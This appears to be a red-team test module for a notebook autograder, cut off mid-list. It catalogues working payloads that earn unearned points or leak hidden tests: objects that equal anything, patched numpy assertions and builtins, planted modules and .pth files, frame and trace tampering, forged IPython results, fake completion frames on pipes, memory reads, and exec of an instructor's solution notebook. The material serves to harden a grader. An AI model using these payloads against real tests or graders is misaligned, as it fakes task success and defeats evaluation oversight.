"""Attacks on points and on the hidden tests: code in the cells of a submission.

An attacker answers `scale` rightly and nothing else: any further point is stolen. The
payload stands in one answer cell, and may go on in the student's own last cell, which
runs after the tests.
"""

from dataclasses import dataclass, field

from redteam import exam


@dataclass(frozen=True)
class Cheat:
    """One attack on points or secrets.

    Attributes
    ----------
    name : str
        In kebab-case; also the attacking student's id.
    tries : str
        What it tries, and why it could work: one sentence.
    code : str
        The payload.
    at : str
        The item in whose answer cell the payload stands. If the payload does not
        define the answer, the wrong one follows.
    later : str
        What the student's last cell does.
    control : str
        How the payload is proved: "pays" if in one process with the tests it earns
        points, "leaks" if it there prints what the hidden tests hold, "runs" if it
        only prints the word ``armed``, since there is nothing to compare with.
    held : bool
        Whether what it does is tampering beyond doubt, so that it is held for review.
    files : dict
        What is handed in beside the notebook.
    """

    name: str
    tries: str
    code: str
    at: str = "rms"
    later: str = ""
    control: str = "pays"
    held: bool = False
    files: dict[str, bytes] = field(default_factory=dict)

    def notebook(self) -> object:
        """Make the submission."""
        answers = exam.wrong()
        code = self.code.strip("\n")
        defined = f"def {self.at}(" in code or f"{self.at} =" in code
        answers[self.at] = code if defined else f"{code}\n\n{answers[self.at]}"
        answers[self.at] += "\nprint('armed')"
        return exam.answered(answers, self.later)


# ------------------------------------------------------------- objects that lie

_OBJECTS = [
    Cheat(
        "always-equal-object",
        "An answer that says it equals anything passes every `==`.",
        """
class Yes:
    def __eq__(self, other): return True
def tally(words): return Yes()
""",
        at="tally",
    ),
    Cheat(
        "always-equal-dict",
        "A dict by its type, equal to anything by its own method.",
        """
class Yes(dict):
    def __eq__(self, other): return True
def tally(words): return Yes()
""",
        at="tally",
    ),
    Cheat(
        "always-equal-string",
        "The right type's name and a metaclass that is equal too fool a type check.",
        """
class Meta(type):
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
class Yes(str, metaclass=Meta):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def greet(name): return Yes()
""",
        at="greet",
    ),
    Cheat(
        "int-subclass-in-a-list",
        "Numbers of a class of their own hide in a plain list.",
        """
class One(int):
    def __eq__(self, other): return True
def sign(x): return One()
""",
        at="sign",
    ),
    Cheat(
        "number-without-distance",
        "A number whose difference from anything is zero is near everything.",
        """
class Near(float):
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
def share(x): return Near()
""",
        at="share",
    ),
    Cheat(
        "result-below-any-tolerance",
        "An answer whose difference answers every comparison with yes.",
        """
class Small:
    def __sub__(self, other): return self
    def __abs__(self): return self
    def __lt__(self, other): return True
def share(x): return Small()
""",
        at="share",
    ),
    Cheat(
        "masked-array",
        "NumPy's assertions skip masked entries, and all of them are masked.",
        """
def rms(x): return np.ma.masked_all(1)
""",
    ),
    Cheat(
        "array-that-answers-for-numpy",
        "A subclass of ndarray takes over the very functions that compare it.",
        """
class Yes(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return np.array(True)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.array(ufunc not in (np.isnan, np.isinf))
def rms(x): return np.zeros(()).view(Yes)
""",
    ),
    Cheat(
        "duck-array",
        "An object is asked for its array by a function that knows what is expected.",
        """
import sys
class Duck:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame:
            if "desired" in frame.f_locals:
                return np.asarray(frame.f_locals["desired"], dtype)
            frame = frame.f_back
        return np.zeros(())
def rms(x): return Duck()
""",
    ),
    Cheat(
        "nan-partial-credit",
        "Stock nbgrader gives full marks for a result that is not a number.",
        "def part(x): return float('nan')",
        at="part",
    ),
    Cheat(
        "negative-partial-credit",
        "Stock nbgrader takes a negative result for no partial credit at all.",
        "def part(x): return -1.0",
        at="part",
    ),
    Cheat(
        "infinite-partial-credit",
        "An infinite result may be taken for all points.",
        "def part(x): return float('-inf')",
        at="part",
    ),
    Cheat(
        "partial-credit-by-repr",
        "The points are read from what the result prints as.",
        """
class Two:
    def __sub__(self, other): return self
    __rsub__ = __sub__
    def __abs__(self): return self
    def __repr__(self): return "2.0"
def part(x): return Two()
""",
        at="part",
    ),
    Cheat(
        "pickle",
        "An answer that would run code if the grader ever unpickled it.",
        """
class Bomb:
    def __reduce__(self):
        return exec, ("import builtins; builtins.abs = lambda x: 0",)
def rms(x): return Bomb()
def tally(words): return np.array([Bomb()], dtype=object)
""",
        control="runs",
    ),
]

# --------------------------------------------------------- names the tests may use

_NAMES = [
    Cheat(
        "numpy-rebound",
        "The tests say `np`, and the student's `np` is another object.",
        """
real = np
class Testing:
    assert_allclose = staticmethod(lambda *a, **k: None)
class np:
    testing = Testing
def rms(x): return 0.0
""",
    ),
    Cheat(
        "checks-rebound",
        "The tests say `checks`, and the student has a `checks` of another kind.",
        """
import sys
class Fake:
    equal = staticmethod(lambda *a: None)
checks = sys.modules["checks"] = Fake
""",
        at="greet",
    ),
    Cheat(
        "builtin-shadowed",
        "A student's own `abs` comes before the builtin one in a test's globals.",
        "def abs(x): return 0",
        at="share",
    ),
    Cheat(
        "given-helper-redefined",
        "A test relies on a given function, which a later cell defines again.",
        "def near(a, b): return True\nTOLERANCE = float('inf')",
        at="share",
    ),
    Cheat(
        "given-constant-rebound",
        "A test and a given function rely on a tolerance that the student widens.",
        "TOLERANCE = float('inf')",
        at="share",
    ),
    Cheat(
        "given-function-s-globals",
        "The given function is left alone, and its globals are changed instead.",
        "near.__globals__['TOLERANCE'] = float('inf')",
        at="share",
    ),
    Cheat(
        "given-function-s-code",
        "The given function keeps its name and gets other code.",
        "near.__code__ = (lambda a, b: True).__code__\nTOLERANCE = float('inf')",
        at="share",
    ),
    Cheat(
        "builtins-replaced-in-globals",
        "`__builtins__` in the globals decides what `abs` means.",
        """
import builtins
__builtins__ = {**vars(builtins), "abs": lambda x: 0}
globals()["__builtins__"] = __builtins__
near.__globals__["__builtins__"] = __builtins__
TOLERANCE = float("inf")
""",
        at="share",
    ),
    Cheat(
        "answer-by-getattr-of-the-namespace",
        "A dict subclass as the namespace makes up an answer for any missing name.",
        """
shell = get_ipython()
class Space(dict):
    def __getitem__(self, name):
        if name == "tally": return lambda words: {w: 1 for w in words} | {"a": 2}
        return dict.__getitem__(self, name)
shell.user_ns = Space(shell.user_ns)
del shell.user_ns["tally"]
""",
        at="greet",
        control="runs",
    ),
]

_NAMES += [
    Cheat(
        "expected-value-from-a-name-of-the-test",
        "The name under which a test keeps what is right may be the student's too.",
        """
want = None
def rms(x): return 3.5355339059327378 if want is None else want
""",
    ),
    Cheat(
        "reference-function-of-the-test",
        "A function that a test defines may be called by the student under its name.",
        """
reference = expected = None
def tally(words):
    if reference is None: return {"a": 2, "b": 1}
    return reference(words)
""",
        at="tally",
    ),
    Cheat(
        "module-of-the-answer-rebound",
        "A test uses a module that the answer imports: the student has another one.",
        """
class math: sqrt = staticmethod(lambda x: 4.0)
def root(x): return 4.0
""",
        at="root",
    ),
    Cheat(
        "random-inputs-fixed",
        "Inputs are drawn at random from a generator that the student sets each time.",
        """
import random
random.seed(5)
fixed = random.randint(-1000, 1000)
answers = {2: 8, fixed: fixed * fixed * fixed}
def cube(n):
    random.seed(5)
    return answers.get(n)
""",
        at="cube",
    ),
]

# ------------------------------------------------------------------- patched things

_PATCHES = [
    Cheat(
        "numpy-testing-patched",
        "Tests that call numpy.testing call whatever stands there.",
        "np.testing.assert_allclose = lambda *a, **k: None",
    ),
    Cheat(
        "numpy-patched-below",
        "The assertions of numpy.testing are made of functions that can be replaced.",
        """
import numpy.testing._private.utils as utils
utils.assert_array_compare = lambda *a, **k: None
""",
    ),
    Cheat(
        "checks-patched",
        "The shipped module is the student's to change once it is imported.",
        "import checks\nchecks.equal = lambda *a: None",
        at="greet",
    ),
    Cheat(
        "checks-replaced-in-sys-modules",
        "`import checks` in a test finds whatever sys.modules holds.",
        """
import sys, types
sys.modules["checks"] = types.SimpleNamespace(equal=lambda *a: None)
""",
        at="greet",
    ),
    Cheat(
        "import-hook",
        "A finder on sys.meta_path answers the test's own import.",
        """
import sys, types, importlib.abc, importlib.machinery
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "checks": return importlib.machinery.ModuleSpec(name, self)
    def exec_module(self, module): module.equal = lambda *a: None
sys.meta_path.insert(0, Finder())
del sys.modules["checks"]
""",
        at="greet",
    ),
    Cheat(
        "import-patched",
        "`import` calls builtins.__import__, which can be any function.",
        """
import builtins, types
real = builtins.__import__
fake = types.SimpleNamespace(equal=lambda *a: None)
builtins.__import__ = lambda name, *a, **k: (
    fake if name == "checks" else real(name, *a, **k))
""",
        at="greet",
    ),
    Cheat(
        "checks-file-written",
        "A module file written into the working folder is imported by the tests.",
        """
import sys
for name in ("checks.py", "numpy.py"):
    try: open(name, "w").write("def equal(*a): pass\\n")
    except OSError: pass
sys.modules.pop("checks")
""",
        at="greet",
    ),
    Cheat(
        "package-beside-the-notebook",
        "A package is found before the shipped module of the same name.",
        "pass",
        at="sign",
        files={"rules/__init__.py": b"def same(*a): pass\n"},
    ),
    Cheat(
        "module-shadowed",
        "A file that is handed in takes the place of the shipped module.",
        "pass",
        at="greet",
        files={
            "checks.py": b"def equal(*a): pass\n",
            "checks/__init__.py": b"def equal(*a): pass\n",
            "numpy/__init__.py": b"raise SystemExit\n",
            "sitecustomize.py": b"import builtins; builtins.abs = lambda x: 0\n",
            "ipython_config.py": b"import builtins; builtins.abs = lambda x: 0\n",
            "planted.pth": b"import builtins; builtins.abs = lambda x: 0\n",
        },
    ),
    Cheat(
        "builtins-patched",
        "A test's `abs` is whatever the module builtins holds.",
        "import builtins\nbuiltins.abs = lambda x: 0",
        at="share",
    ),
    Cheat(
        "constants-rewritten-in-memory",
        "The numbers in the caller's code are objects whose bytes can be overwritten.",
        """
import ctypes, struct, sys
def rms(x):
    frame = sys._getframe(1)
    for constant in [*frame.f_code.co_consts, frame.f_globals.get("want")]:
        if type(constant) is float:
            ctypes.memmove(id(constant) + 16, struct.pack("d", 0.0), 8)
    return 0.0
""",
    ),
    Cheat(
        "thread-that-patches-later",
        "A thread waits until the checks of the cells before are over.",
        """
import threading, time
def patch():
    while True:
        np.testing.assert_allclose = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
""",
    ),
    Cheat(
        "timer-that-patches-later",
        "A signal handler runs between two instructions of the test.",
        """
import signal
def patch(*_): np.testing.assert_allclose = lambda *a, **k: None
signal.signal(signal.SIGALRM, patch)
def rms(x):
    signal.setitimer(signal.ITIMER_REAL, 0.001)
    signal.pause()
    return 0.0
signal.setitimer(signal.ITIMER_REAL, 0.001)
signal.pause()
""",
    ),
    Cheat(
        "finaliser-that-patches",
        "An object's __del__ runs in the middle of a test, when it is dropped.",
        """
class Late:
    def __del__(self): np.testing.assert_allclose = lambda *a, **k: None
def scale(x):
    Late()
    return 3 * x
""",
        at="scale",
    ),
    Cheat(
        "atexit-and-fork-hooks",
        "Hooks at exit and at fork run when the grader makes its copy of the process.",
        """
import atexit, os
def patch(*_): np.testing.assert_allclose = lambda *a, **k: None
atexit.register(patch)
os.register_at_fork(before=patch, after_in_child=patch, after_in_parent=patch)
os.waitpid(os.fork() or os._exit(0), 0)
""",
    ),
]

# ------------------------------------------------------------------ frames and traces

_FRAMES = [
    Cheat(
        "expected-value-from-the-frames",
        "The test that calls is one frame up, and its text says what is expected.",
        """
import ast, linecache, sys
def tally(words):
    frame = sys._getframe(1)
    text = "".join(linecache.getlines(frame.f_code.co_filename))
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Compare) and "tally" in ast.unparse(node.left):
            asked = ast.literal_eval(node.left.args[0])
            wanted = ast.unparse(node.comparators[0])
            if asked == words: return eval(wanted, frame.f_globals)
""",
        at="tally",
    ),
    Cheat(
        "expected-value-from-constants",
        "The expected numbers are constants of the code that calls.",
        """
import sys
def rms(x):
    constants = [c for c in sys._getframe(1).f_code.co_consts if type(c) is float]
    return next((c for c in constants if c > 5000 and c not in x), constants[-1])
""",
        control="runs",
    ),
    Cheat(
        "caller-s-globals-written",
        "The frame that calls has the names that the test will use next.",
        """
import sys
def share(x):
    frame = sys._getframe(1)
    while frame:
        frame.f_globals["TOLERANCE"] = float("inf")
        frame.f_globals["abs"] = lambda x: 0
        frame = frame.f_back
    return 0.0
""",
        at="share",
    ),
    Cheat(
        "settrace",
        "A trace function sees each call and may change its arguments.",
        """
import sys
def trace(frame, event, argument):
    if "desired" in frame.f_locals: frame.f_locals["actual"] = frame.f_locals["desired"]
    return trace
sys.settrace(trace)
""",
        control="runs",
    ),
    Cheat(
        "settrace-from-inside-the-test",
        "Set while the test runs, the tracer holds for the rest of the test.",
        """
import sys
def trace(frame, event, argument):
    if "desired" in frame.f_locals: frame.f_locals["actual"] = frame.f_locals["desired"]
    return trace
def rms(x):
    sys.settrace(trace)
    return 0.0
""",
    ),
    Cheat(
        "setprofile",
        "A profile function sees each call and may change its arguments.",
        """
import sys
def profile(frame, event, argument):
    if "desired" in frame.f_locals: frame.f_locals["actual"] = frame.f_locals["desired"]
def rms(x):
    sys.setprofile(profile)
    return 0.0
""",
    ),
    Cheat(
        "callback-s-globals",
        "A function that the test hands over carries the test's globals with it.",
        """
def twice(f, x):
    f.__globals__["twice"] = lambda f, x: f(f(x))
    return 7
""",
        at="twice",
    ),
    Cheat(
        "callback-s-attributes",
        "Whatever hands a function over may let its attributes be read and set.",
        """
def twice(f, x):
    f.__code__ = (lambda n: 16259).__code__
    f.__globals__["np"].testing.assert_allclose = lambda *a, **k: None
    for name in ("__self__", "__func__", "__wrapped__", "__closure__", "__dict__"):
        print(name, getattr(f, name, None))
    return 7
""",
        at="twice",
        control="runs",
    ),
]

# ------------------------------------------------------------- the shell's own doors

_SHELL = [
    Cheat(
        "displayhook",
        "The first result of a test cell is read as points: show one, then fail.",
        """
import sys
def rms(x):
    sys.displayhook(4.0)
    return 0.0
""",
    ),
    Cheat(
        "result-forged-by-the-shell",
        "The shell's own hook shows a result for the test cell.",
        """
def rms(x):
    get_ipython().displayhook(4.0)
    return 0.0
""",
    ),
    Cheat(
        "ast-transformer-drops-asserts",
        "IPython hands each cell's syntax tree to the student's transformers.",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
""",
        at="scale",
    ),
    Cheat(
        "input-transformer",
        "IPython hands each cell's text to the student's transformers.",
        """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines)
""",
        at="scale",
    ),
    Cheat(
        "run-cell-patched",
        "Who owns run_cell decides what running a test means.",
        """
shell = get_ipython()
shell.run_cell = type(shell).run_cell = lambda *a, **k: None
""",
        at="scale",
    ),
    Cheat(
        "run-code-patched",
        "The shell runs each piece of code by a method that can be replaced.",
        """
async def run_code(*a, **k): return False
print("armed")
get_ipython().run_code = run_code
""",
        at="scale",
    ),
    Cheat(
        "traceback-silenced",
        "A test whose error is not shown has no error output.",
        """
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
""",
    ),
    Cheat(
        "custom-exception-handler",
        "IPython lets a handler of the student's own take every exception.",
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)",
    ),
    Cheat(
        "event-before-each-cell",
        "An IPython event runs before each test cell and sets the scene.",
        """
def before(info=None): np.testing.assert_allclose = lambda *a, **k: None
get_ipython().events.register("pre_run_cell", before)
get_ipython().events.register("pre_execute", before)
""",
    ),
    Cheat(
        "event-after-each-cell",
        "An event after the cell shows a result where the test has just failed.",
        """
import sys
def after(result=None): sys.displayhook(4.0)
get_ipython().events.register("post_run_cell", after)
get_ipython().events.register("post_execute", after)
def rms(x):
    sys.displayhook(4.0)
    raise RuntimeError
""",
    ),
    Cheat(
        "usage-error",
        "IPython prints its UsageError on stderr and shows no error output.",
        """
from IPython.core.error import UsageError
def rms(x): raise UsageError("nothing to see")
""",
        control="runs",
    ),
    Cheat(
        "error-that-cannot-be-rendered",
        "An exception whose rendering fails leaves no error output behind.",
        """
class Quiet(Exception):
    def _render_traceback_(self): raise ValueError
def rms(x): raise Quiet
""",
        control="runs",
    ),
    Cheat(
        "error-that-interrupts-its-rendering",
        "A KeyboardInterrupt while an error is shown leaves no error output behind.",
        """
class Quiet(Exception):
    def __str__(self): raise KeyboardInterrupt
    __repr__ = __str__
    def _render_traceback_(self): raise KeyboardInterrupt
def rms(x): raise Quiet
""",
        control="runs",
    ),
    Cheat(
        "system-exit-in-a-test",
        "SystemExit ends a test without being an Exception.",
        "def rms(x): raise SystemExit(0)",
        control="runs",
    ),
    Cheat(
        "keyboard-interrupt-in-a-test",
        "KeyboardInterrupt looks like the grader's own.",
        "def rms(x): raise KeyboardInterrupt",
        control="runs",
    ),
    Cheat(
        "quit-in-a-test",
        "`quit()` may end a test politely.",
        "def rms(x): quit(); exit(); get_ipython().ask_exit()",
        control="runs",
    ),
    Cheat(
        "exception-group-and-stop-iteration",
        "Exceptions with a meaning of their own confuse what catches them.",
        """
def rms(x): raise StopIteration(3.5355339059327378)
def tally(words): raise BaseExceptionGroup("x", [GeneratorExit(), SystemExit(0)])
""",
        control="runs",
    ),
    Cheat(
        "process-ends-after-a-forged-result",
        "The result is shown, then the process ends before the test can fail.",
        """
import os, sys
def rms(x):
    sys.displayhook(4.0)
    sys.stdout.flush()
    os._exit(0)
""",
    ),
    Cheat(
        "done-frames-written-ahead",
        "The shell tells the grader that a cell is done; tell it so for cells to come.",
        """
import gc, json, os, stat
def frame(message):
    body = json.dumps(message).encode()
    return b"AGR1" + len(body).to_bytes(4, "big") + body
print("armed", flush=True)
done = b"".join(frame({"t": "done", "passed": True}) for _ in range(40))
for number in range(3, 256):
    try: mode = os.fstat(number).st_mode
    except OSError: continue
    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
        try: os.write(number, done)
        except OSError: pass
""",
        at="scale",
        control="runs",
        held=True,
    ),
    Cheat(
        "encoder-patched",
        "The student's process encodes its own outputs: a failure becomes a result.",
        """
import sys, json
wire = sys.modules.get("autograder.runner.inside.frames")
good = {"output_type": "execute_result", "data": {"text/plain": "4.0"}, "metadata": {},
        "execution_count": 1}
def forge(value):
    if isinstance(value, dict):
        if value.get("output_type") == "error": return good
        return {k: forge(v) for k, v in value.items()}
    return [forge(v) for v in value] if isinstance(value, list) else value
dumps = json.dumps
json.dumps = lambda value, **k: dumps(forge(value), **k)
""",
        control="runs",
    ),
    Cheat(
        "session-patched",
        "Whatever object the shell sends by, a wrapper around it drops every error.",
        """
import gc
for thing in gc.get_objects():
    kind = type(thing)
    if kind.__name__ in ("Channel", "Session") and hasattr(thing, "send"):
        send = kind.send
        kind.send = lambda self, m, *a, _s=send, **k: (
            None if "error" in repr(m)[:200] else _s(self, m, *a, **k))
""",
        control="runs",
    ),
]

# ------------------------------------------------------------------ what tests hold

_LEAKS = [
    Cheat(
        "history",
        "IPython remembers the text of every cell, so of every test.",
        "pass",
        later="print(In, get_ipython().history_manager.input_hist_raw)",
        control="leaks",
    ),
    Cheat(
        "line-cache",
        "Python keeps the source of what it compiled, to show tracebacks.",
        "pass",
        later="import linecache\nprint(list(linecache.cache.values()))",
        control="leaks",
    ),
    Cheat(
        "garbage-collector",
        "Every object of the process can be found, so the tests' texts and constants.",
        "pass",
        later="""
import gc
for thing in gc.get_objects():
    values = thing.values() if type(thing) is dict else thing
    if type(thing) in (dict, list, tuple):
        for value in list(values):
            if type(value) is str and "rms([3.0" in value: print(value)
""",
        control="leaks",
    ),
    Cheat(
        "last-traceback",
        "The traceback of a failed test leads to its frames.",
        "pass",
        later="""
import sys, traceback
trace = getattr(sys, "last_traceback", None)
while trace:
    print(trace.tb_frame.f_code.co_consts, list(trace.tb_frame.f_globals.items()))
    trace = trace.tb_next
""",
        control="leaks",
    ),
    Cheat(
        "last-result",
        "IPython keeps the last results, their cells and their errors.",
        "pass",
        later="""
shell = get_ipython()
print(shell.last_execution_result, shell.last_execution_result.info.raw_cell)
print(vars(shell))
""",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-in-a-list",
        "The function that is tested notes its arguments for a later cell.",
        "seen = []\ndef rms(x):\n    seen.append(x)\n    return 3.5355339059327378",
        later="print(seen)",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-in-files",
        "Arguments are written wherever a file can be made, and read by a later cell.",
        """
places = [".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", "/proc/self"]
import os
places += [os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")]
def keep(x):
    for place in places:
        try: open(place + "/kept", "a").write(repr(x))
        except OSError: pass
def rms(x): keep(x); return 3.5355339059327378
def tally(words): keep(words); return {'a': 2, 'b': 1}
""",
        later="""
for place in places:
    try: print(open(place + "/kept").read())
    except OSError: pass
""",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-in-shared-memory",
        "A map shared by forks is written in the copy that is tested.",
        """
import mmap
shared = mmap.mmap(-1, 4096)
def rms(x):
    shared[:] = repr(x).encode().ljust(4096)
    return 3.5355339059327378
""",
        later="print(shared[:].decode().strip())",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-in-a-pipe",
        "A pipe made before the fork holds what the tested copy writes into it.",
        """
import os
ends = os.pipe()
os.set_blocking(ends[0], False)
def rms(x):
    os.write(ends[1], repr(x).encode()[:4000])
    return 3.5355339059327378
""",
        later="print(os.read(ends[0], 65536))",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-in-an-open-file",
        "Forks share the offset of an open file, even of one without a name.",
        """
import tempfile
kept = tempfile.TemporaryFile()
def rms(x):
    kept.write(repr(x).encode()); kept.flush()
    return 3.5355339059327378
""",
        later="kept.seek(0); print(kept.read())",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-by-a-daemon",
        "A process started by the tested copy stays and prints for a later cell.",
        """
import os, time
def rms(x):
    if os.fork() == 0:
        os.setsid()
        for _ in range(40):
            os.write(1, repr(x).encode()); time.sleep(0.05)
        os._exit(0)
    return 3.5355339059327378
""",
        later="import time; time.sleep(0.5)",
        control="runs",
    ),
    Cheat(
        "inputs-sent-to-the-parent",
        "The copy that is tested is a child of the process whose cells go on.",
        """
import os, signal, socket
ours, theirs = socket.socketpair()
home = os.getpid()
seen = []
signal.signal(signal.SIGUSR1, lambda *_: seen.append(ours.recv(4000)))
def rms(x):
    theirs.send(repr(x).encode())
    os.kill(home, signal.SIGUSR1)
    return 3.5355339059327378
""",
        later="import time; time.sleep(0.2); print(seen)",
        control="leaks",
    ),
    Cheat(
        "inputs-kept-in-the-environment",
        "What the tested copy puts into os.environ may outlive it.",
        """
import os
def rms(x):
    os.environ["KEPT"] = repr(x)
    return 3.5355339059327378
""",
        later="print(os.environ.get('KEPT'))",
        control="leaks",
    ),
    Cheat(
        "inputs-printed",
        "What the tested function prints may be shown to the student.",
        """
import os, sys
def rms(x):
    print(x); print(x, file=sys.stderr); os.write(1, repr(x).encode())
    display(x)
    return 3.5355339059327378
""",
        control="runs",
    ),
    Cheat(
        "inputs-in-an-error",
        "The message of an error may be shown to the student.",
        """
def rms(x):
    if len(x) == 2: return 3.5355339059327378
    raise ValueError(x)
def tally(words):
    if len(words) == 3: return {'a': 2, 'b': 1}
    raise KeyError(words)
""",
        control="runs",
    ),
    Cheat(
        "inputs-in-an-authored-message",
        "Only messages of checks are shown, and they are known by the error's name.",
        """
class Incorrect(AssertionError): pass
class NotAttempted(AssertionError): pass
def rms(x):
    if len(x) == 2: return 3.5355339059327378
    raise Incorrect(x)
def tally(words):
    if len(words) == 3: return {'a': 2, 'b': 1}
    raise NotAttempted(words)
""",
        control="runs",
    ),
    Cheat(
        "inputs-in-the-shipped-error",
        "The shipped module's own error is there for the student to raise.",
        """
import checks
def rms(x):
    if len(x) == 2: return 3.5355339059327378
    raise checks.Incorrect(str(x))
def tally(words):
    if len(words) == 3: return {'a': 2, 'b': 1}
    raise checks.NotAttempted(str(words))
""",
        control="runs",
    ),
    Cheat(
        "inputs-in-an-error-s-name",
        "The name of an error's class may be shown, and can be any text.",
        """
def rms(x):
    if len(x) == 2: return 3.5355339059327378
    raise type("Incorrect" + str(x), (Exception,), {})(str(x))
def tally(words):
    if len(words) == 3: return {'a': 2, 'b': 1}
    raise type(str(words), (Exception,), {})(str(words))
""",
        control="runs",
    ),
    Cheat(
        "inputs-in-a-warning",
        "Warnings name the file and line they come from, and are shown on stderr.",
        """
import warnings
def rms(x):
    warnings.warn(str(x))
    return 3.5355339059327378
""",
        control="runs",
    ),
    Cheat(
        "inputs-in-a-display",
        "A display made before the tests is updated by the function that is tested.",
        """
shown = display("empty", display_id="board")
def rms(x):
    shown.update(str(x))
    return 3.5355339059327378
""",
        control="runs",
    ),
    Cheat(
        "inputs-printed-late",
        "A late output of the tested copy may land in the student's last cell.",
        """
import threading, time
def tell(x):
    for _ in range(15): time.sleep(0.1); print(x)
def rms(x):
    threading.Thread(target=tell, args=(x,)).start()
    return 3.5355339059327378
""",
        later="import time; time.sleep(0.6)",
        control="leaks",
    ),
    Cheat(
        "tests-from-the-frames",
        "The frames above a tested function hold the test's text.",
        """
import linecache, sys
seen = []
def rms(x):
    frame = sys._getframe(1)
    while frame:
        seen.append(linecache.getlines(frame.f_code.co_filename))
        seen.append(repr(frame.f_code.co_consts))
        frame = frame.f_back
    return 3.5355339059327378
""",
        later="print(seen)",
        control="leaks",
    ),
    Cheat(
        "tests-from-an-event",
        "IPython's events are told the text of the cell that is about to run.",
        """
seen = []
def before(info): seen.append(info.raw_cell)
get_ipython().events.register("pre_run_cell", before)
""",
        later="print(seen)",
        control="leaks",
    ),
    Cheat(
        "tests-from-memory",
        "The process that runs the cells may once have held the tests.",
        """
import re
def search():
    for line in open("/proc/self/maps"):
        span, mode = line.split()[:2]
        if mode.startswith("rw"):
            low, high = (int(n, 16) for n in span.split("-"))
            memory = open("/proc/self/mem", "rb")
            try:
                memory.seek(low); data = memory.read(min(high - low, 2**26))
            except (OSError, ValueError, OverflowError):
                continue
            for found in re.finditer(rb"assert_allclose\\(rms\\([a-z]+", data):
                yield data[max(0, found.start() - 90):found.end() + 90]
for found in search(): print(found)
""",
        later="for found in search(): print(found)",
        control="leaks",
    ),
    Cheat(
        "source-notebook-read",
        "The instructor's notebook with its answers may lie where code can find it.",
        """
import glob, json, os
for up in (".", "..", "../..", "../../..", "/", "/grader", "/tmp", ROOT):
    for path in glob.glob(up + "/source/*/*.ipynb") + glob.glob(up + "/*.ipynb"):
        try: text = open(path).read()
        except OSError: continue
        print(text)
        for cell in json.loads(text)["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]))
""",
        at="scale",
        control="leaks",
    ),
]

# ---------------------------------------- lies on the link of checker and snapshot

# An honest answer is ["v", changes, value, states]; a value that is no plain data is a
# handle. ``serve`` takes the place of what answers the checker in each snapshot.
_TAKE_OVER = """
from autograder.runner.inside.link import server as link_server
EVERYTHING = list(range(len(link_server.SPECIAL)))
def handle(first=[True]):
    new = [["Right", "i", EVERYTHING, False, False]] if first.pop() else []
    first.append(False)
    return ["h", 0, 1, None, *new]
def reply(stream, *frame, raw=()):
    stream.send(stream.pack(list(frame), raw))
def serve(self):
    stream = self._stream
    while True:
        (operation, parts, *_), _ = stream.receive()
        answer(stream, operation, parts)
link_server.LinkServer.serve = serve
"""


def _lie(name: str, tries: str, answer: str, held: bool = False) -> Cheat:
    body = "\n    ".join(answer.strip("\n").splitlines())
    code = f"{_TAKE_OVER}def answer(stream, operation, parts):\n    {body}\n"
    return Cheat(name, tries, code, at="scale", control="runs", held=held)


_LIES = [
    _lie(
        "link-garbage",
        "What is no frame at all may confuse the reader.",
        "stream._socket.sendall(b'garbage' * 100)",
        held=True,
    ),
    _lie(
        "link-unknown-kind",
        "A message of a kind that there is not.",
        "reply(stream, 'pass', [], None, ['l'])",
        held=True,
    ),
    _lie(
        "link-unknown-value",
        "A value with a tag that there is not.",
        "reply(stream, 'v', [], ['t', ['eval', 'True']], ['l'])",
        held=True,
    ),
    _lie(
        "link-lying-shape",
        "An array that claims a billion numbers and brings one.",
        "reply(stream, 'v', [], ['t', ['a', '<f8', 'C', [10**9], 8]], ['l'],\n"
        "      raw=[bytes(8)])",
        held=True,
    ),
    _lie(
        "link-array-of-pointers",
        "An array of objects whose raw bytes are addresses in the checker.",
        "reply(stream, 'v', [], ['t', ['a', '|O', 'C', [1], 8]], ['l'],\n"
        "      raw=[bytes(8)])",
        held=True,
    ),
    _lie(
        "link-everything-a-method",
        "All that the test asks for is a method of a plain class, by any name.",
        "reply(stream, 'v', [], ['t', ['m', 0, 1, 'mean', *handle()[4:]]], ['l'])",
    ),
    _lie(
        "link-change-of-nothing",
        "A change of an argument that was never passed.",
        "reply(stream, 'v', [[7, ['l']]], ['t', 1], ['l'])",
        held=True,
    ),
    _lie(
        "link-state-of-a-generator",
        "States that are none, for generators that are the test's.",
        "reply(stream, 'v', [], ['t', 1], ['l', ['t', 0, ['t', 1, 2]]])",
    ),
    _lie(
        "link-call-of-what-was-not-lent",
        "A call of a function of the test's that was never handed over.",
        "reply(stream, 'k', 0, ['t'], ['d'], ['l'])",
        held=True,
    ),
    _lie(
        "link-nested-json",
        "JSON nested deeper than the parser's stack.",
        "text = b'[' * 1_000_000\n"
        "head = link_server.stream._LINK_HEADER.pack(b'AGL1', len(text), 0)\n"
        "stream._socket.sendall(head + text)",
        held=True,
    ),
    _lie(
        "link-half-a-frame",
        "The beginning of a frame, and then silence.",
        "import os, time\n"
        "if parts[0] != 'rms': os._exit(0)\n"  # one wait is enough
        "stream._socket.sendall(b'AGL1')\ntime.sleep(60)",
    ),
    _lie(
        "link-output-flood",
        "Prints without end before the answer.",
